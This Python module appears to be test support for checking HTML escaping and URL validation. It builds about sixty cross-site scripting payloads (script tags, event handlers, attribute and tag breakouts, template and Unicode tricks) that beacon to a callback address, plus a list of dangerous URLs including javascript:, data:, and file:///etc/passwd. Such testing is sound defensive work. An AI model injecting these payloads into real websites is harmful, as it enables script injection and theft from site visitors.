"""Sixty texts that a stranger may put where a title, a quote or an address is expected.

Each asks `{hit}` for something the moment that a browser takes it for more than text.
"""

_RUN = "fetch('{hit}')"
_TAGS = (
    "<script>%s</script>",
    "<ScRiPt>%s</ScRiPt>",
    "</script><script>%s</script>",
    "<script src='{hit}'></script>",
    "<script type=module>%s</script>",
    '<img src=x onerror="%s">',
    "<img src='{hit}'>",
    "<img srcset='{hit} 1x'>",
    '<svg onload="%s">',
    "<svg><script>%s</script></svg>",
    "<svg><image href='{hit}'/></svg>",
    '<svg><animate onbegin="%s" attributeName=x dur=1s>',
    '<math><mtext><img src=x onerror="%s"></mtext></math>',
    "<iframe src='{hit}'></iframe>",
    "<iframe srcdoc=\"<img src='{hit}'>\"></iframe>",
    "<object data='{hit}'></object>",
    "<embed src='{hit}'>",
    "<link rel=stylesheet href='{hit}'>",
    "<link rel=icon href='{hit}'>",
    "<link rel=preload as=image href='{hit}'>",
    "<style>@import '{hit}';</style>",
    "<style>*{background:url('{hit}')}</style>",
    "<div style=\"background:url('{hit}')\">x</div>",
    '<body onload="%s">',
    "<video src='{hit}' autoplay></video>",
    "<video poster='{hit}'></video>",
    "<audio src='{hit}' autoplay></audio>",
    '<input autofocus onfocus="%s">',
    "<input type=image src='{hit}'>",
    '<details open ontoggle="%s">x</details>',
    '<marquee onstart="%s">x</marquee>',
    "<template><script>%s</script></template><slot>",
    "<table background='{hit}'></table>",
    "<picture><source srcset='{hit}'><img src=x></picture>",
    '<noscript><p title="</noscript><img src=x onerror=%s>">',
    '<!--><img src=x onerror="%s">-->',
    '<xss style="animation-name:a" onanimationstart="%s">',
    '<a href="javascript:%s">x</a>',
    "<form action='{hit}'><button autofocus>x</button></form>",
    "<track src='{hit}'>",
)
_BREAKOUTS = (
    '"><script>%s</script>',
    "'><script>%s</script>",
    '" onmouseover="%s" autofocus onfocus="%s',
    "' onerror='%s' src='x",
    "</bdi></td></table><script>%s</script>",
    "</title><script>%s</script>",
    "</style><script>%s</script>",
    "--><script>%s</script>",
    "]]><script>%s</script>",
    "${%s}",
    "{{ 7 * 7 }}<img src='{hit}'>",
    "{% include '/etc/passwd' %}<img src='{hit}'>",
    "\u202e<img src='{hit}'>",
    "<\u200bscript>%s</script><img src='{hit}'>",
    "&lt;img src='{hit}'&gt;<img src='{hit}'>",
    "\uff1cscript\uff1e%s<img src='{hit}'>",
    '<a href="java\nscript:%s">x</a>',
    "<base href='{hit}/'><img src=x>",
    "<svg><style>&lt;img src='{hit}'&gt;</style></svg>",
)
_NAVIGATES = "<meta http-equiv=refresh content='0;url={hit}'>"
"""Leads away, which no Content-Security-Policy forbids: only escaping keeps it from doing so."""


def payloads(hit: str, *, navigating: bool) -> list[str]:
    """The texts, each with an address of its own below `hit`."""
    shapes = [*_TAGS, *_BREAKOUTS, *([_NAVIGATES] if navigating else [])]
    return [
        shape.replace("%s", _RUN).replace("{hit}", f"{hit}/{number}")
        for number, shape in enumerate(shapes)
    ]


BAD_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://ann:secret@news.example/",
    "https://",
    "http://[",
    "https://news.example/a b",
    "https:\\\\news.example",
    "https://news.example/\nx",
    "",
)
